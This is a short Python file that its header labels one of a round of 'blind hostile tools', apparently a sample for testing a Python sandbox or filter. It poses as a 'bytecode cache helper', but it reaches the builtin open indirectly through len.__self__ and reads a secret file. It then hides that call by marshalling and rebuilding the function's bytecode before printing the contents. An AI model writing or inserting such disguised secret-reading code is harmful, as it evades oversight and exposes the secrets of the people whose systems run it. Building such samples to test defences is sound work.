# family: marshal (written blind, round 17 of blind hostile tools)
"""Bytecode cache helper."""
import dataclasses
import types


def _t():
    return len.__self__.open("/tmp/r17b/work/secret.txt").read()


def restore(blob=None):
    m = dataclasses.sys.modules["marshal"]
    blob = blob or m.dumps(_t.__code__)
    return types.FunctionType(m.loads(blob), {})()


print(restore())
